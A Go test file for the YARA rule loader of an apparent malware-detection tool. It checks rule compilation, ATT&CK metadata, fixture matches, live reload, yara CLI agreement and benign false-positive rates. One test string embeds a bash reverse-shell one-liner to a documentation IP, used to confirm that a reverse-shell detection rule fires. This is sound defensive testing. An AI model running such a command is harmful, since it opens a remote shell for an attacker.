package rules

import (
	"bufio"
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"testing"

	"github.com/automaldesc/automaldesc/analysis/yarascan"
	"github.com/automaldesc/automaldesc/internal/corpus"
	"github.com/automaldesc/automaldesc/learning/dataset"
)

const minBundledRules = 45

func loadBundled(t *testing.T) *yarascan.Rules {
	t.Helper()
	r, err := Load()
	if err != nil {
		t.Fatalf("bundled rules: %v", err)
	}
	return r
}

// scanNames scans data and returns the matched rule names.
func scanNames(t *testing.T, s *yarascan.Scanner, data []byte) map[string]yarascan.Match {
	t.Helper()
	ms, err := s.Scan(context.Background(), data, 0)
	if err != nil {
		t.Fatalf("scan: %v", err)
	}
	out := make(map[string]yarascan.Match, len(ms))
	for _, m := range ms {
		out[m.Rule] = m
	}
	return out
}

func TestBundledCompiles(t *testing.T) {
	r := loadBundled(t)
	if r.Len() < minBundledRules {
		t.Errorf("got %d bundled rules, want >= %d", r.Len(), minBundledRules)
	}
	for _, in := range r.Infos() {
		if in.Namespace != BundledNamespace {
			t.Errorf("rule %s: got namespace %q, want %q", in.Name, in.Namespace, BundledNamespace)
		}
	}
	if errs := Check(); len(errs) != 0 {
		t.Errorf("got Check() errors %v, want none", errs)
	}
}

// techniques reads the ATT&CK catalogue (id -> status) from shared/attack
// above the working directory; nil when absent.
func techniques(t *testing.T) map[string]string {
	t.Helper()
	wd, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	for dir := wd; ; dir = filepath.Dir(dir) {
		p := filepath.Join(dir, "shared", "attack", "enterprise-techniques.tsv")
		if f, err := os.Open(p); err == nil {
			defer f.Close()
			out := map[string]string{}
			sc := bufio.NewScanner(f)
			for sc.Scan() {
				cols := strings.Split(sc.Text(), "\t")
				if len(cols) >= 5 && cols[0] != "id" {
					out[cols[0]] = cols[4]
				}
			}
			if err := sc.Err(); err != nil {
				t.Fatal(err)
			}
			return out
		}
		if filepath.Dir(dir) == dir {
			break
		}
	}
	if os.Getenv("CI") != "" {
		t.Fatal("shared/attack/enterprise-techniques.tsv not found above the working directory (required under CI)")
	}
	t.Log("ATT&CK catalogue not found: checking technique id format only")
	return nil
}

var techniqueFormat = regexp.MustCompile(`^T[0-9]{4}(\.[0-9]{3})?$`)

func TestBundledMeta(t *testing.T) {
	catalogue := techniques(t)
	for _, in := range loadBundled(t).Infos() {
		t.Run(in.Name, func(t *testing.T) {
			if in.Meta["description"] == "" {
				t.Error("got empty description, want one")
			}
			if got := in.Meta["author"]; got != "automaldesc" {
				t.Errorf("got author %q, want automaldesc", got)
			}
			if sev := in.Meta["severity"]; !yarascan.ValidSeverity(sev) {
				t.Errorf("got severity %q, want info|low|medium|high|critical", sev)
			}
			ids := strings.Split(in.Meta["attack"], ",")
			if in.Meta["attack"] == "" {
				t.Fatal("got empty attack meta, want technique ids")
			}
			for _, id := range ids {
				id = strings.TrimSpace(id)
				if !techniqueFormat.MatchString(id) {
					t.Errorf("got technique %q, want Tnnnn or Tnnnn.nnn", id)
					continue
				}
				if catalogue != nil && catalogue[id] != "active" {
					t.Errorf("technique %s: got status %q, want active", id, catalogue[id])
				}
			}
			if len(yarascan.ParseTechniques(in.Meta["attack"])) != len(ids) {
				t.Errorf("got %v parsed from %q, want all ids kept", yarascan.ParseTechniques(in.Meta["attack"]), in.Meta["attack"])
			}
		})
	}
}

// fixtureRule gives the rule a TP fixture is for: its file name up to the
// first "." or "__".
func fixtureRule(name string) string {
	if i := strings.Index(name, "."); i >= 0 {
		name = name[:i]
	}
	if i := strings.Index(name, "__"); i >= 0 {
		name = name[:i]
	}
	return name
}

func TestFixtures(t *testing.T) {
	r := loadBundled(t)
	s, err := r.NewScanner()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	fileOf := map[string]string{} // rule -> family
	for _, in := range r.Infos() {
		fileOf[in.Name] = strings.TrimSuffix(filepath.Base(in.File), filepath.Ext(in.File))
	}
	families, err := os.ReadDir("testdata")
	if err != nil {
		t.Fatal(err)
	}
	covered := map[string]bool{}
	fpCount := map[string]int{}
	for _, fam := range families {
		if !fam.IsDir() || fam.Name() == "fuzz" {
			continue
		}
		family := fam.Name()
		for _, kind := range []string{"tp", "fp"} {
			files, err := filepath.Glob(filepath.Join("testdata", family, kind, "*"))
			if err != nil {
				t.Fatal(err)
			}
			for _, p := range files {
				data, err := os.ReadFile(p)
				if err != nil {
					t.Fatal(err)
				}
				t.Run(family+"/"+kind+"/"+filepath.Base(p), func(t *testing.T) {
					got := scanNames(t, s, data)
					if kind == "tp" {
						rule := fixtureRule(filepath.Base(p))
						if fileOf[rule] != family {
							t.Fatalf("fixture names rule %s of family %q, want a rule of family %q", rule, fileOf[rule], family)
						}
						if _, ok := got[rule]; !ok {
							t.Errorf("got matches %v, want %s", keys(got), rule)
						}
						covered[rule] = true
						return
					}
					fpCount[family]++
					for name := range got {
						if fileOf[name] == family {
							t.Errorf("benign fixture matched %s of family %s", name, family)
						}
					}
				})
			}
		}
	}
	for rule, fam := range fileOf {
		if !covered[rule] {
			t.Errorf("rule %s (%s) has no TP fixture in testdata/%s/tp", rule, fam, fam)
		}
		if fpCount[fam] == 0 {
			t.Errorf("family %s has no FP fixture", fam)
			fpCount[fam] = -1
		}
	}
}

func keys(m map[string]yarascan.Match) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

const userGood = `rule User_Good
{
    meta:
        description = "user rule"
        severity = "low"
    strings:
        $a = "inert-user-marker"
    condition:
        $a
}
`

// userBroken has its syntax error on line 3.
const userBroken = `rule User_Broken
{
    strings $a = "x"
    condition: $a
}
`

func writeFiles(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestLoadUserRuleIsolation(t *testing.T) {
	dir := writeFiles(t, map[string]string{"good.yar": userGood, "sub/bad.yara": userBroken})
	r, err := Load(dir)
	if r == nil {
		t.Fatalf("got nil rules, want bundled + good user rules (err %v)", err)
	}
	badPath := filepath.Join(dir, "sub", "bad.yara")
	var ce *yarascan.CompileError
	if !errors.As(err, &ce) || ce.File != badPath || ce.Line != 3 {
		t.Fatalf("got error %v, want a CompileError at %s:3", err, badPath)
	}
	if !strings.Contains(err.Error(), badPath+":3:") {
		t.Errorf("got message %q, want it to name %s:3", err, badPath)
	}
	s, err := r.NewScanner()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	got := scanNames(t, s, []byte("x inert-user-marker; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"))
	m, ok := got["User_Good"]
	if !ok {
		t.Fatalf("got %v, want User_Good", keys(got))
	}
	if m.Namespace != "user:good.yar" {
		t.Errorf("got namespace %q, want user:good.yar", m.Namespace)
	}
	if _, ok := got["RS_Bash_Dev_TCP"]; !ok {
		t.Errorf("got %v, want bundled RS_Bash_Dev_TCP still active", keys(got))
	}
}

func TestLoadDir(t *testing.T) {
	dir := writeFiles(t, map[string]string{
		"a.yar": userGood, "x/b.YARA": "rule B { condition: true }", "notes.txt": "not a rule",
	})
	if err := os.Symlink(filepath.Join(dir, "missing"), filepath.Join(dir, "dangling.yar")); err != nil {
		t.Fatal(err)
	}
	srcs, err := LoadDir(dir)
	if err == nil || !strings.Contains(err.Error(), "dangling.yar") {
		t.Errorf("got error %v, want one naming dangling.yar", err)
	}
	var names []string
	for _, s := range srcs {
		names = append(names, s.Namespace)
	}
	if got, want := strings.Join(names, ","), "user:a.yar,user:x/b.YARA"; got != want {
		t.Errorf("got namespaces %s, want %s", got, want)
	}
	if _, err := LoadDir(filepath.Join(dir, "nope")); err == nil {
		t.Error("got nil error for a missing folder, want one")
	}
}

func TestCheck(t *testing.T) {
	good := writeFiles(t, map[string]string{"a.yar": userGood})
	mixed := writeFiles(t, map[string]string{"a.yar": userGood, "b.yar": userBroken, "c.yar": "rule C { condition: $nope }"})
	empty := t.TempDir()
	tests := []struct {
		name string
		dirs []string
		want []string // substrings, one per expected error
	}{
		{"clean folder", []string{good}, nil},
		{"bundled", nil, nil},
		{"every problem listed", []string{mixed}, []string{"b.yar:3:", "c.yar:1:"}},
		{"empty folder", []string{empty}, []string{"no .yar or .yara files"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			errs := Check(tc.dirs...)
			if len(errs) != len(tc.want) {
				t.Fatalf("got %d errors %v, want %d", len(errs), errs, len(tc.want))
			}
			for i, w := range tc.want {
				if !strings.Contains(errs[i].Error(), w) {
					t.Errorf("error %d: got %q, want it to contain %q", i, errs[i], w)
				}
			}
		})
	}
}

func TestLiveReload(t *testing.T) {
	goodDir := writeFiles(t, map[string]string{"good.yar": userGood})
	garbageDir := writeFiles(t, map[string]string{"good.yar": "\x7fELF garbage {{{", "other.yar": userBroken})

	l, err := NewLive(goodDir)
	if err != nil {
		t.Fatal(err)
	}
	first := l.Get()
	if first == nil {
		t.Fatal("got nil rules after NewLive")
	}

	var wg sync.WaitGroup
	stop := make(chan struct{})
	for i := 0; i < 2; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
					if l.Get() == nil {
						t.Error("got nil rules during reload")
						return
					}
				}
			}
		}()
	}

	t.Run("garbage on reload keeps the old set whole", func(t *testing.T) {
		err := l.Reload(garbageDir)
		if !errors.Is(err, ErrKeptOld) || !strings.Contains(err.Error(), "other.yar") {
			t.Fatalf("got %v, want ErrKeptOld naming the broken file", err)
		}
		if l.Get() != first {
			t.Fatal("got a new set, want the old one kept in force")
		}
	})
	t.Run("first load accepts a partial set", func(t *testing.T) {
		k, err := NewLive(garbageDir)
		if err == nil || errors.Is(err, ErrKeptOld) {
			t.Fatalf("got %v, want a partial-failure error", err)
		}
		if k.Get() == nil || k.Get().Len() != first.Len()-1 {
			t.Errorf("got %v, want the bundled set without the broken user files", k.Get())
		}
	})
	t.Run("total failure keeps the old set", func(t *testing.T) {
		k := &Live{base: []yarascan.Source{{Name: "base.yar", Text: userGood}}}
		if err := k.Reload(); err != nil {
			t.Fatal(err)
		}
		old := k.Get()
		k.base = []yarascan.Source{{Name: "base.yar", Text: "garbage {"}}
		err := k.Reload(garbageDir)
		if !errors.Is(err, ErrKeptOld) {
			t.Fatalf("got %v, want ErrKeptOld", err)
		}
		if k.Get() != old {
			t.Error("got a new set after a failed reload, want the old one kept")
		}
	})
	t.Run("first load failing leaves nil", func(t *testing.T) {
		k := &Live{base: []yarascan.Source{{Name: "base.yar", Text: "garbage {"}}}
		if err := k.Reload(); err == nil || k.Get() != nil {
			t.Errorf("got err %v and rules %v, want an error and nil", err, k.Get())
		}
	})
	close(stop)
	wg.Wait()
}

// TestYaraCLICompat runs the yara CLI on every bundled file over the
// fixtures and compares its matches with the in-process scanner's.
func TestYaraCLICompat(t *testing.T) {
	bin, err := exec.LookPath("yara")
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("yara CLI not installed (required under CI)")
		}
		t.Skip("yara CLI not installed")
	}
	r := loadBundled(t)
	s, err := r.NewScanner()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	var fixtures []string
	err = filepath.WalkDir("testdata", func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() && (strings.Contains(p, "/tp/") || strings.Contains(p, "/fp/")) {
			fixtures = append(fixtures, p)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	inProc := map[string]bool{} // "rule path"
	for _, p := range fixtures {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		for name := range scanNames(t, s, data) {
			inProc[name+" "+p] = true
		}
	}
	for _, src := range Bundled() {
		file := filepath.Join("bundled", filepath.Base(src.Name))
		t.Run(filepath.Base(file), func(t *testing.T) {
			out, err := exec.Command(bin, "-w", "-r", file, "testdata").CombinedOutput()
			if err != nil {
				t.Fatalf("yara %s: %v\n%s", file, err, out)
			}
			cli := map[string]bool{}
			for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
				if line != "" {
					cli[line] = true
				}
			}
			own := map[string]bool{}
			for _, in := range r.Infos() {
				if in.File == src.Name {
					own[in.Name] = true
				}
			}
			for k := range cli {
				if !inProc[k] {
					t.Errorf("yara CLI matched %q, in-process scan did not", k)
				}
			}
			for k := range inProc {
				if own[strings.SplitN(k, " ", 2)[0]] && !cli[k] {
					t.Errorf("in-process scan matched %q, yara CLI did not", k)
				}
			}
		})
	}
}

// TestCorpusRates measures the bundled set on the dev corpus: false
// positives on benign samples must stay rare; hit rates are logged.
func TestCorpusRates(t *testing.T) {
	dir := corpus.Require(t, corpus.Dev)
	entries, base, err := dataset.LoadManifest(filepath.Join(dir, "manifest.tsv"))
	if err != nil {
		t.Fatal(err)
	}
	s, err := loadBundled(t).NewScanner()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	type tally struct{ n, hit int }
	byLabel := map[string]*tally{}
	fpRules := map[string]int{}
	for _, e := range entries {
		data, err := os.ReadFile(e.Path(base))
		if err != nil {
			t.Fatal(err)
		}
		key := string(e.Label) + "/" + e.Language
		if byLabel[key] == nil {
			byLabel[key] = &tally{}
		}
		byLabel[key].n++
		ms := scanNames(t, s, data)
		if len(ms) > 0 {
			byLabel[key].hit++
		}
		if e.Label == dataset.Benign {
			for name := range ms {
				fpRules[name]++
			}
		}
	}
	var benign, benignHit int
	labels := make([]string, 0, len(byLabel))
	for k := range byLabel {
		labels = append(labels, k)
	}
	sort.Strings(labels)
	for _, k := range labels {
		v := byLabel[k]
		t.Logf("%-22s %4d/%4d files matched (%.1f%%)", k, v.hit, v.n, 100*float64(v.hit)/float64(v.n))
		if strings.HasPrefix(k, "benign/") {
			benign += v.n
			benignHit += v.hit
		}
	}
	t.Logf("benign files with a match: %v", fpRules)
	if benign == 0 {
		t.Fatal("no benign samples in the dev corpus")
	}
	if rate := float64(benignHit) / float64(benign); rate > 0.005 {
		t.Errorf("got benign match rate %.2f%%, want <= 0.5%%", 100*rate)
	}
}
